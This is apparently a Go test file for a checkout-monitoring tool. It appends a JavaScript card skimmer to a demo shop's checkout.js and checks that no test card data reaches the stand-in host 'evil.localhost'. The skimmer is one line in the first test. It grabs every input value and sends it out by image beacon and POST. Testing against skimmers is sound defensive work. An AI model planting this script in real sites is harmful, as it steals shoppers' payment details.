package page

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch/canary"
	"github.com/tillwatch/tillwatch/demoshop"
)

// One customer more hands the card to the shop, once, and to nobody else.
func TestTheShopAloneIsHandedTheCard(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{})
	file := filepath.Join(shop.Docroot(), "assets", "js", "checkout.js")
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	evil := strings.TrimSuffix(shop.URL("evil.localhost"), "/")
	skim := `;addEventListener('click', () => { const v = [...document.querySelectorAll('input')].map(i => i.value).join(); new Image().src = '` + evil + `/i?' + encodeURIComponent(v); fetch('` + evil + `/p', {method: 'POST', mode: 'no-cors', body: btoa(encodeURIComponent(v))}); }, true);`
	if err := os.WriteFile(file, slices.Concat(b, []byte(skim)), 0o644); err != nil {
		t.Fatal(err)
	}
	var sets []canary.Set
	_, gaps, passed := observe(t, Config{
		Layers: "T", PlaceTestOrder: true, SendCard: true, Ordered: func(s canary.Set) { sets = append(sets, s) },
	}, shop.URL("shop.localhost"))
	if len(gaps) > 0 || passed {
		t.Errorf("gaps %v; whole %v, want a walk that speaks for nothing", gaps, passed)
	}
	if n, _ := shop.PlacedOrders(context.WithoutCancel(t.Context())); n != 1 || len(sets) != 1 {
		t.Fatalf("%d orders by %d customers, want one", n, len(sets))
	}
	finder := canary.NewMatcher(sets...)
	for _, r := range shop.Received("evil.localhost") {
		if found := finder.Find(slices.Concat([]byte(r.Path), r.Body)); len(found) > 0 {
			t.Errorf("the thief was sent %v", canary.Fields(found))
		}
	}
}

// Where nobody looks at the server, nobody orders.
func TestNoCardIsSentWithoutATrace(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{})
	observe(t, Config{Layers: "T", PlaceTestOrder: true}, shop.URL("shop.localhost"))
	if n, _ := shop.PlacedOrders(context.WithoutCancel(t.Context())); n != 0 {
		t.Errorf("%d orders", n)
	}
}
